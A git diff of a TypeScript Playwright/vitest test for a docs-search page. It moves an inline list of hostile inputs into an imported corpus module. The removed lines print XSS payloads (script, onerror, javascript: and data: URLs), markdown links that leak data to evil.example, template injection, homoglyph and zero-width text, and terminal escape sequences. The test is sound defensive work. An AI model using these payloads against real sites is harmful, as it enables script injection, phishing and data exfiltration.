@@ -6,42 +6,13 @@ import { fileURLToPath } from 'node:url'
 import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { faultsOf } from '../docs-search/page/look.ts'
+import { HOSTILE, chance, mutated } from './hostile-corpus.ts'
 import { PHONE, PageStage } from './stage.ts'
 
 const dist = fileURLToPath(new URL('../../dist/web', import.meta.url))
-/** Each alone; what they become in any mixture, elements.test.ts holds. */
-const HOSTILE = [
-  '<img src=x onerror="window.evil=1">',
-  '<script>window.evil=1</script>',
-  '<svg onload="window.evil=1">',
-  '[click](javascript:window.evil=1)',
-  '![pixel](https://evil.example/p.png?all=said)',
-  '[safe.example](https://evil.example)',
-  '<iframe src="https://evil.example"></iframe>',
-  '<style>body{display:none}</style>',
-  'see https://xn--pple-43d.com and \u202eexe.txt',
-  '<math><mi//xlink:href="data:x,<script>window.evil=1</script>">',
-  '<details open ontoggle="window.evil=1">',
-  '<input autofocus onfocus="window.evil=1">',
-  '<a href="jav&#x09;ascript:window.evil=1">x</a>',
-  '[x](data:text/html,<script>window.evil=1</script>)',
-  '[x](vbscript:window.evil=1)',
-  '![x](//evil.example/p.png)',
-  '[![x](https://evil.example/p.png)](https://evil.example)',
-  '<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content="0;//evil.example">',
-  '<object data=//evil.example><embed src=//evil.example><video src=//evil.example poster=//evil.example>',
-  '<form action=//evil.example><button>Allow once</button></form>',
-  '</div></main></body><h1 id=main>escaped</h1>',
-  '{{constructor.constructor("window.evil=1")()}} ${window.evil=1}',
-  'p\u0430ypal.com \u200bzero\u200dwidth \ud800 lone \udfff',
-  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u001b[2J',
-]
-/** From a seed: what is left of two of them, cut anywhere and put together. */
-const MIXED = Array.from({ length: 500 }, (_one, n) => {
-  const at = (factor: number, length: number): number => (Math.imul(n + 1, factor) >>> 8) % length
-  const [one = '', other = ''] = [2_654_435_761, 40_503_001].map((factor) => HOSTILE[at(factor, HOSTILE.length)])
-  return one.slice(0, at(374_761_393, one.length)) + other.slice(at(668_265_263, other.length))
-})
+const upTo = chance(20_261_124)
+/** Their beginnings, since a message of more than 200 KB is cut. */
+const MIXED = Array.from({ length: 500 }, () => mutated(upTo).slice(0, 250))
 
 let stage: PageStage
 beforeAll(async () => {
